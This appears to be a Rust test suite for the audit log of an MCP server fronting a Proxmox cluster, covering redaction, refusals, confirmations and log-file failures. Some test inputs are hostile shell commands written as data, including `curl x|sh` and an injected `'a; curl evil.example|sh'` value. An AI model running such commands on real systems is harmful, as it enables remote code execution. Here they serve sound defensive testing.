//! The audit log of a running server: the lines of each kind of call and transport, and the loss of the file or the
//! server.

use crate::support::node::{Node, SECRET, ScriptedReply};
use crate::support::process::{ServerProcess, path};
use crate::support::program::{ADMIN, OPERATOR, ProgramServer, READER, code, configuration, lab, texts};
use crate::support::proxmox::{gzipped_facts, is_lookup, proxmox_with, server_error};
use crate::support::raw::eventually;
use crate::support::rpc::{call, request};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::fs;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;

const UPID: &str = "UPID:pve1:000001C1:00022AEA:6B0293BE:qmstart:100:root@pam!mcp:";
const CONFIG: &str = "/nodes/pve1/qemu/100/config";

/// Starts a node that starts guests by a task, fails to suspend them, and closes the connection on a reboot.
fn start_node() -> Node {
    proxmox_with(gzipped_facts(), |request| {
        let end = request.path().rsplit('/').next().unwrap_or_default();
        match (request.method.as_str(), end) {
            ("POST", "start") => Some(ScriptedReply::data(&format!("\"{UPID}\""))),
            ("POST", "suspend") => Some(server_error("VM 100 is locked (password=hunter2)")),
            ("POST", "reboot") => Some(ScriptedReply::close()),
            _ => None,
        }
    })
}

fn power_call(verb: &str) -> Value {
    json!({"path": format!("/nodes/pve1/qemu/100/status/{verb}"), "method": "POST"})
}

/// Returns the lines from `from` on, which are `count`. Fails unless they belong to one call and have its `id`.
fn lines_of_one_call(server: &ProgramServer, from: usize, count: usize) -> Vec<Value> {
    let lines = server.wait_for_lines(from + count).split_off(from);
    let ids: BTreeSet<&str> = lines.iter().map(|line| line["id"].as_str().expect("an id")).collect();
    assert!(ids.len() == 1 && lines.len() == count, "{lines:?}");
    lines
}

fn events(lines: &[Value]) -> Vec<&str> {
    lines.iter().map(|line| line["event"].as_str().expect("an event")).collect()
}

/// Counts the requests that change something.
fn count_changes(node: &Node) -> usize {
    node.requests().iter().filter(|request| !is_lookup(request) && request.method != "GET").count()
}

// ---- lines of a call

#[test]
fn read_is_one_line_with_caller_address_and_transport() {
    let (node, mut sum) = (start_node(), 0);
    let server = ProgramServer::start_lab(&node, &json!({}));
    server.call(READER, "proxmox_api_get", json!({"path": CONFIG, "params": {"current": true}}));
    let lines = lines_of_one_call(&server, 0, 1);
    assert_eq!(events(&lines), ["call"]);
    for (member, value) in [
        // Before it, the list of the nodes was looked up.
        ("seq", json!(2)),
        ("client", json!("reader")),
        ("address", json!("127.0.0.1")),
        ("transport", json!("http")),
        ("tool", json!("proxmox_api_get")),
        ("cluster", json!("lab")),
        ("operation", json!(format!("GET {CONFIG}"))),
        ("guest", json!("100")),
        ("arguments", json!({"current": "1"})),
        ("decision", json!("allowed")),
        ("outcome", json!("ok")),
    ] {
        assert_eq!(lines[0][member], value, "{member}: {}", lines[0]);
    }
    assert!(lines[0]["ms"].is_u64() && lines[0]["time"].as_str().unwrap().ends_with('Z'), "{}", lines[0]);
    for (tool, arguments) in [
        ("list_nodes", json!({})),
        ("get_cluster_resources", json!({})),
        ("find_guest", json!({"query": "web01"})),
        ("wait_for_task", json!({"upid": UPID, "timeout": 1})),
    ] {
        sum += 1;
        server.events(OPERATOR, tool, arguments);
        let lines = lines_of_one_call(&server, sum, 1);
        assert_eq!(events(&lines), ["call"], "{tool}");
        let who = ["client", "transport", "tool"].map(|member| lines[0][member].as_str().unwrap());
        assert_eq!(who, ["operator", "sse", tool], "{}", lines[0]);
    }
    server.verify_audit_log();
}

#[test]
fn reads_of_prompts_resources_and_completions_are_look_ups_of_their_caller() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({}));
    let completion =
        json!({"ref": {"type": "ref/prompt", "name": "troubleshoot"}, "argument": {"name": "guest", "value": ""}});
    let requests = [
        ("prompts/get", json!({"name": "health", "arguments": {}}), "prompt health", "look"),
        ("resources/read", json!({"uri": "pve://lab"}), "resources/read", "look"),
        ("resources/read", json!({"uri": "pve://lab/version"}), "resources/read", "call"),
        ("completion/complete", completion, "completion/complete", "look"),
    ];
    for (method, params, ..) in &requests {
        server.post(READER, &request(1, method, params.clone()));
    }
    // The line of a change is written after those of all reads before it.
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    let mut lines = server.all_lines();
    lines.retain(|line| line["client"] == "reader");
    let requests_of_lines: Vec<&[Value]> = lines.chunk_by(|a, b| a["id"] == b["id"]).collect();
    assert_eq!(requests_of_lines.len(), requests.len(), "{lines:?}");
    for ((method, _, tool, event), lines) in requests.iter().zip(requests_of_lines) {
        for line in lines {
            let members = ["client", "tool", "event"].map(|member| line[member].as_str().expect("a text"));
            assert_eq!(members, ["reader", *tool, *event], "{method}: {line}");
        }
    }
    server.verify_audit_log();
}

#[test]
fn batch_of_reads_has_one_line_per_read_with_one_id() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({}));
    let paths = ["/version", CONFIG, "/nodes/pve2/qemu/101/config", "/nodes/pve1/qemu/109/config"];
    server.call(READER, "proxmox_api_get", json!({"paths": paths}));
    let lines = lines_of_one_call(&server, 0, paths.len());
    assert_eq!(lines.len(), paths.len());
    for path in paths {
        let line = lines.iter().find(|line| line["operation"] == format!("GET {path}")).expect(path);
        let failed = line["outcome"].as_str().unwrap().starts_with("failed: ");
        assert_eq!(failed, path.contains("109"), "{line}");
    }
    server.call(READER, "proxmox_api_get", json!({"path": "/version"}));
    assert_ne!(server.wait_for_lines(5)[4]["id"], lines[0]["id"]);
}

#[test]
fn change_is_recorded_before_and_after() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({}));
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    let lines = lines_of_one_call(&server, 0, 2);
    assert_eq!(events(&lines), ["begin", "end"]);
    let (begin, end) = (&lines[0], &lines[1]);
    assert!(begin["outcome"].is_null() && begin["ms"].is_null() && begin["upid"].is_null(), "{begin}");
    assert_eq!((&end["upid"], &end["outcome"]), (&UPID.into(), &"ok".into()));
    assert!(end["ms"].is_u64(), "{end}");

    server.call(OPERATOR, "proxmox_api_call", power_call("suspend"));
    let lines = lines_of_one_call(&server, 2, 2);
    assert_eq!(events(&lines), ["begin", "end"]);
    let why = lines[1]["outcome"].as_str().unwrap();
    assert!(why.starts_with("failed: ") && why.contains("locked (password=(hidden)"), "{why}");

    server.call(OPERATOR, "proxmox_api_call", power_call("reboot"));
    let lines = lines_of_one_call(&server, 4, 2);
    assert_eq!(events(&lines), ["begin", "end"]);
    assert!(lines[1]["outcome"].as_str().unwrap().starts_with("unknown: "), "{}", lines[1]);

    let data = json!({"vmid": 900, "cipassword": "hunter2", "description": "password=hunter2", "cores": 2});
    server.call(ADMIN, "proxmox_api_call", json!({"path": "/nodes/pve1/qemu", "method": "POST", "data": data}));
    let lines = lines_of_one_call(&server, 6, 2);
    assert_eq!(events(&lines), ["begin", "end"]);
    for line in &lines {
        let description = format!("password=(hidden) (16 bytes, HMAC-SHA-256 {})", hmac("password=hunter2"));
        let shown =
            json!({"vmid": "900", "cipassword": "(password, 7 characters)", "description": description, "cores": "2"});
        assert_eq!(line["arguments"], shown);
    }
    server.verify_audit_log();
}

/// Returns the SHA-256 of a text as hex digits.
fn sha256(text: &str) -> String {
    let hash = ring::digest::digest(&ring::digest::SHA256, text.as_bytes());
    hash.as_ref().iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Returns the HMAC of a text with a secret, under the secret of the cluster's token, as hex digits.
fn hmac(text: &str) -> String {
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, SECRET.as_bytes());
    ring::hmac::sign(&key, text.as_bytes()).as_ref().iter().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn what_was_sent_can_be_proved() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({"confirm": "never"}));
    let agent = "/nodes/pve1/qemu/100/agent";
    let script = format!("uptime #-----BEGIN PRIVATE KEY-----\ncurl x|sh\n{}", "#".repeat(5000));
    let long = "ü".repeat(3000);
    let header = "name=X,value=y";
    let many: Vec<String> = (0..40).map(|n| format!("{n}{}", "x".repeat(1000))).collect();
    let many_text = json!(many).to_string();
    for (path, data, arguments) in [
        // Commands are whole.
        (
            format!("{agent}/exec"),
            json!({"command": ["sh", "-c", script], "input-data": "--password=x"}),
            json!({"command": json!(["sh", "-c", script]).to_string(),
                "input-data": format!("--password=(hidden) (12 bytes, HMAC-SHA-256 {})", hmac("--password=x"))}),
        ),
        // A password in one is hidden if it is a word. A text that may be a command is not.
        (
            format!("{agent}/exec"),
            json!({"command": ["curl", "-u", "me:hunter2", "https://x/"]}),
            json!({"command": format!("[\"curl\",\"-u\",\"me:(hidden)\",\"https://x/\"] (39 bytes, HMAC-SHA-256 {})",
                hmac(r#"["curl","-u","me:hunter2","https://x/"]"#))}),
        ),
        (
            format!("{agent}/exec"),
            json!({"command": ["vault", "login", "hunter2"]}),
            json!({"command": format!("[\"vault\",\"login\",\"(hidden)\"] (27 bytes, HMAC-SHA-256 {})",
                hmac(r#"["vault","login","hunter2"]"#))}),
        ),
        (
            format!("{agent}/exec"),
            json!({"command": ["x", "--password", "'a; curl evil.example|sh'"]}),
            json!({"command": r#"["x","--password","'a; curl evil.example|sh'"]"#}),
        ),
        (
            format!("{agent}/file-write"),
            json!({"file": "/etc/x", "content": script}),
            json!({"file": "/etc/x", "content": script}),
        ),
        // A password has its length alone.
        (
            format!("{agent}/set-user-password"),
            json!({"username": "root", "password": "hunter2"}),
            json!({"username": "root", "password": "(password, 7 characters)"}),
        ),
        // What is cut or hidden has its length and hash.
        (
            "/nodes/pve1/qemu/100/config".into(),
            json!({"description": long}),
            json!({"description": format!("{}… (6000 bytes, SHA-256 {})", "ü".repeat(120), sha256(&long))}),
        ),
        (
            "/cluster/notifications/endpoints/webhook".into(),
            json!({"name": "w1", "url": "https://x/", "method": "post", "header": [header]}),
            json!({"name": "w1", "url": "https://x/", "method": "post",
                "header": format!("(hidden) (14 bytes, HMAC-SHA-256 {})", hmac(header))}),
        ),
        (format!("{agent}/exec"), json!({"command": many}), json!({"command": many_text})),
    ] {
        server.call(ADMIN, "proxmox_api_call", json!({"path": path, "method": "POST", "data": data}));
        let lines = server.all_lines();
        let line = lines.iter().rfind(|line| line["operation"] == format!("POST {path}")).expect("a line");
        assert_eq!(line["arguments"], arguments, "{path}");
    }
    server.verify_audit_log();
}

#[test]
fn awaited_task_has_the_id_of_its_start() {
    let node = proxmox_with(gzipped_facts(), |request| match request.path() {
        path if path.ends_with("/start") => Some(ScriptedReply::data(&format!("\"{UPID}\""))),
        path if path.contains("/tasks/") && path.ends_with("/status") => {
            Some(ScriptedReply::data(r#"{"status":"stopped","exitstatus":"OK"}"#))
        }
        path if path.ends_with("/log") => Some(ScriptedReply::body(r#"{"data":[],"total":0}"#)),
        _ => None,
    });
    let server = ProgramServer::start_lab(&node, &json!({}));
    let mut arguments = power_call("start");
    arguments["wait"] = true.into();
    server.call(OPERATOR, "proxmox_api_call", arguments);
    let lines = lines_of_one_call(&server, 0, 3);
    assert_eq!(events(&lines), ["begin", "end", "call"]);
    assert_eq!(lines[2]["operation"], format!("GET /nodes/pve1/tasks/{UPID}/status"));
}

#[test]
fn search_for_a_task_is_one_record_for_each_cluster() {
    let node = proxmox_with(gzipped_facts(), |request| {
        request.path().contains("/tasks/").then(|| ScriptedReply::refusal(500, "no such task", ""))
    });
    let mut configuration = lab(&node, &json!({}));
    configuration["clusters"]["second"] = configuration["clusters"]["lab"].clone();
    let server = ProgramServer::builder(&configuration).audit_file().start();
    let said = server.call(READER, "wait_for_task", json!({"upid": UPID, "timeout": 5}));
    assert!(said["result"]["content"][0]["text"].as_str().is_some_and(|text| text.contains("no such task")), "{said}");
    // Each cluster says which nodes it has, and whether it knows the task.
    eventually("all lines", || server.all_lines().len() >= 4);
    let lines = server.all_lines();
    assert_eq!(events(&lines), ["look"; 4], "{lines:?}");
    let about_task =
        lines.iter().filter(|line| line["operation"].as_str().is_some_and(|text| text.contains("/tasks/")));
    assert_eq!(about_task.count(), 2, "{lines:?}");
    let probes = node.requests().iter().filter(|request| request.path().contains("/tasks/")).count();
    assert!(probes > 2, "{probes} probes");
    server.verify_audit_log();
}

#[test]
fn denied_call_is_recorded_with_the_reason_and_not_sent() {
    let node = start_node();
    let server =
        ProgramServer::start_lab(&node, &json!({"deny": ["POST /nodes/*/qemu/*/status/stop"], "protect": ["101"]}));
    for (at, (token, arguments, why)) in [
        (READER, power_call("start"), "\"reader\" has \"read\""),
        (OPERATOR, json!({"path": CONFIG, "method": "PUT", "data": {"cores": 2}}), "\"operator\" has \"operate\""),
        (ADMIN, power_call("stop"), "the \"deny\" list of this cluster has"),
        (ADMIN, json!({"path": "/nodes/pve2/qemu/101/status/start", "method": "POST"}), "guest 101 is protected"),
    ]
    .into_iter()
    .enumerate()
    {
        let text = server.call(token, "proxmox_api_call", arguments.clone());
        assert_eq!(text["result"]["isError"], true, "{text}");
        let lines = lines_of_one_call(&server, at, 1);
        assert_eq!(events(&lines), ["refused"], "{lines:?}");
        assert!(lines[0]["decision"] == "refused" && lines[0]["why"].as_str().unwrap().contains(why), "{}", lines[0]);
    }
    assert_eq!(count_changes(&node), 0);
    server.verify_audit_log();
}

#[test]
fn confirmation_is_recorded_when_requested_and_when_given() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({}));
    let mut arguments = json!({"path": "/nodes/pve1/qemu/100", "method": "DELETE"});
    let asked = server.call(ADMIN, "proxmox_api_call", arguments.clone());
    let lines = lines_of_one_call(&server, 0, 1);
    assert_eq!((events(&lines), &lines[0]["decision"]), (vec!["asked"], &"asked".into()));
    assert_eq!(count_changes(&node), 0);
    arguments["confirm"] = code(&asked).into();
    server.call(ADMIN, "proxmox_api_call", arguments.clone());
    let lines = lines_of_one_call(&server, 1, 2);
    assert_eq!(events(&lines), ["begin", "end"]);
    assert!(lines.iter().all(|line| line["decision"] == "confirmed"), "{lines:?}");
    assert_eq!(count_changes(&node), 1);

    let arguments = json!({"path": "/nodes/pve1/qemu/100", "method": "DELETE"});
    let asked = server.ask(ADMIN, "proxmox_api_call", arguments.clone(), json!({}));
    assert_eq!(events(&lines_of_one_call(&server, 3, 1)), ["asked"]);
    let state = &asked["result"]["requestState"];
    let yes = json!({"inputResponses": {"confirm": {"action": "accept", "content": {"confirm": true}}}, "requestState": state});
    server.ask(ADMIN, "proxmox_api_call", arguments.clone(), yes.clone());
    let lines = lines_of_one_call(&server, 4, 2);
    assert_eq!(events(&lines), ["begin", "end"]);
    assert_eq!((&lines[0]["decision"], count_changes(&node)), (&"confirmed".into(), 2));

    let mut forged = yes;
    forged["requestState"] = "made up".into();
    server.ask(ADMIN, "proxmox_api_call", arguments, forged);
    let lines = lines_of_one_call(&server, 6, 1);
    assert_eq!((events(&lines), count_changes(&node)), (vec!["refused"], 2));
    assert!(lines[0]["why"].as_str().is_some_and(|why| why.contains("the state of the question")), "{}", lines[0]);
    server.verify_audit_log();
}

#[test]
fn dry_run_and_local_tools_write_no_line() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({}));
    let mut dry = power_call("start");
    dry["dry_run"] = true.into();
    server.call(OPERATOR, "proxmox_api_call", dry);
    server.call(READER, "list_clusters", json!({}));
    server.call(READER, "search_api", json!({"query": "start a VM"}));
    server.call(READER, "proxmox_api_get", json!({"path": "/nodes/pve1/no/such/path"}));
    assert!(server.lines().is_empty() && count_changes(&node) == 0, "{:?}", server.lines());
}

#[test]
fn stdio_call_has_no_address() {
    let (node, folder) = (start_node(), tempfile::tempdir().unwrap());
    let (config, file) = (configuration(&node, &json!({})), folder.path().join("audit.log"));
    let mut process =
        ServerProcess::start(&["stdio", "--config", path(&config), "--audit-log", file.to_str().unwrap()]);
    process.ask(&call(1, "proxmox_api_call", power_call("start")));
    process.ask(&call(2, "list_nodes", json!({})));
    process.end_input();
    process.wait_for_exit();
    let text = fs::read_to_string(&file).expect("UTF-8");
    let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(events(&lines), ["look", "look", "look", "begin", "end", "call"]);
    for line in &lines {
        let address = line.get("address").expect("the member");
        assert!(address.is_null() && line["client"] == "stdio" && line["transport"] == "stdio", "{line}");
    }
    let output = crate::support::process::run(&["audit", "verify", file.to_str().unwrap()]);
    assert!(output.status.success(), "{output:?}");
}

#[test]
fn without_a_file_the_audit_lines_are_in_the_log() {
    let node = start_node();
    let server = ProgramServer::start_lab_without_audit_file(&node, &json!({}));
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    server.call(READER, "proxmox_api_call", power_call("start"));
    server.call(READER, "list_nodes", json!({}));
    let printed = server.stop_and_read();
    let audit: Vec<(&str, Value)> = printed
        .lines()
        .filter_map(|line| line.split_once(" audit {"))
        .map(|(start, rest)| {
            (start.split_whitespace().last().unwrap(), serde_json::from_str(&format!("{{{rest}")).expect("JSON"))
        })
        .collect();
    let seen: Vec<_> = audit.iter().map(|(level, line)| (*level, line["event"].as_str().unwrap())).collect();
    let look = ("DEBUG", "look");
    let all = [look, look, look, ("INFO", "begin"), ("INFO", "end"), ("INFO", "refused"), ("DEBUG", "call")];
    assert_eq!(seen, all, "{printed}");
    assert_eq!(audit[4].1["upid"], UPID);
}

// ---- the file

#[test]
fn eight_clients_in_parallel_write_one_chain() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({"confirm": "never"}));
    thread::scope(|scope| {
        for n in 0..8 {
            let server = server.endpoint.clone();
            scope.spawn(move || {
                for turn in 0..10 {
                    match (n + turn) % 4 {
                        0 => drop(server.call(OPERATOR, "proxmox_api_call", power_call("start"))),
                        1 => drop(server.events(READER, "list_nodes", json!({}))),
                        2 => drop(server.call(READER, "proxmox_api_call", power_call("start"))),
                        _ => drop(server.call(ADMIN, "proxmox_api_get", json!({"paths": ["/version", CONFIG]}))),
                    }
                }
            });
        }
    });
    let lines = server.wait_for_lines(120);
    let counted = |event| lines.iter().filter(|line| line["event"] == event).count();
    assert_eq!(["begin", "end", "call", "refused"].map(counted), [20, 20, 60, 20]);
    let ids: BTreeSet<&str> = lines.iter().map(|line| line["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), 80, "each call has its own id");
    for end in lines.iter().filter(|line| line["event"] == "end") {
        let begins = |line: &&Value| line["event"] == "begin" && line["id"] == end["id"];
        let begun = lines.iter().find(begins).unwrap_or_else(|| panic!("no begin: {end}"));
        assert!(begun["seq"].as_u64() < end["seq"].as_u64(), "{end}");
    }
    // The line of a look-up may be written a moment after its call has ended.
    let count_looks = || server.all_lines().iter().filter(|line| line["event"] == "look").count();
    let (before, verified, after) = (count_looks(), server.verify_audit_log(), count_looks());
    let has_records = |looks| verified.contains(&format!("{} records", 120 + looks));
    assert!((before..=after).any(has_records), "{before} to {after} look-ups: {verified}");
}

#[test]
fn chain_continues_after_a_kill_during_calls() {
    let node = start_node();
    let mut server = ProgramServer::start_lab(&node, &json!({}));
    for _ in 0..3 {
        let over = AtomicBool::new(false);
        let (address, before) = (server.address.clone(), server.lines().len());
        thread::scope(|scope| {
            for _ in 0..4 {
                scope.spawn(|| {
                    while !over.load(Ordering::Relaxed) {
                        if !call_once(&address) {
                            break;
                        }
                    }
                });
            }
            let file = server.audit.clone();
            let written = || fs::read_to_string(&file).expect("UTF-8").lines().count();
            crate::support::raw::eventually("lines", || written() > before + 20);
            server.kill_and_start();
            over.store(true, Ordering::Relaxed);
        });
        server.verify_audit_log();
        server.call(OPERATOR, "proxmox_api_call", power_call("start"));
        server.verify_audit_log();
    }
    let text = fs::read_to_string(&server.audit).expect("UTF-8");
    assert!(text.lines().last().unwrap().contains("\"event\":\"end\""), "{text}");
}

/// Makes a call whose answer may never arrive. Returns whether the server was running.
fn call_once(address: &str) -> bool {
    use std::io::{Read, Write};
    let Ok(mut stream) = std::net::TcpStream::connect(address) else { return false };
    let body = call(1, "proxmox_api_call", power_call("start"));
    let head = format!(
        "POST /mcp HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nAccept: application/json, \
         text/event-stream\r\nAuthorization: Bearer {OPERATOR}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    let sent = stream.write_all(format!("{head}{body}").as_bytes());
    sent.and_then(|()| stream.read_to_end(&mut Vec::new())).is_ok()
}

#[test]
fn full_disk_blocks_changes_and_reads_continue() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({}));
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    assert_eq!(count_changes(&node), 1);
    server.fill_disk(true);
    let refused = server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    let text = texts(&refused);
    assert!(refused["result"]["isError"] == true && text.contains("without it nothing is changed"), "{text}");
    assert!(text.contains("Nothing was sent") && !text.contains("audit.log"), "{text}");
    let read = server.call(READER, "proxmox_api_get", json!({"path": CONFIG}));
    assert!(texts(&read).starts_with("name: web01"), "{read}");
    let not_let = server.call(READER, "proxmox_api_call", power_call("start"));
    assert!(texts(&not_let).contains("refused"), "{not_let}");
    assert_eq!((count_changes(&node), server.lines().len()), (1, 2));
    server.verify_audit_log();
    server.fill_disk(false);
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    assert_eq!((count_changes(&node), server.lines().len()), (2, 4));
    server.verify_audit_log();
}

#[test]
fn removed_file_is_recreated_or_else_changes_are_blocked() {
    let node = start_node();
    let server = ProgramServer::start_lab(&node, &json!({}));
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    fs::remove_file(&server.audit).expect("remove");
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    assert_eq!(events(&server.lines()), ["begin", "end"]);
    assert_eq!(server.all_lines()[0]["seq"], 1);
    server.verify_audit_log();
    // A folder replaces the file.
    fs::remove_file(&server.audit).expect("remove");
    fs::create_dir(&server.audit).expect("a folder");
    let read = server.call(READER, "proxmox_api_get", json!({"path": CONFIG}));
    assert!(texts(&read).starts_with("name: web01"), "{read}");
    let refused = server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    assert!(texts(&refused).contains("without it nothing is changed") && count_changes(&node) == 2, "{refused}");
    fs::remove_dir(&server.audit).expect("remove");
    server.call(OPERATOR, "proxmox_api_call", power_call("start"));
    assert_eq!((events(&server.lines()), count_changes(&node)), (vec!["begin", "end"], 3));
    let printed = server.stop_and_read();
    assert!(printed.contains("the audit log was moved or removed") && printed.contains("is a directory"), "{printed}");
}
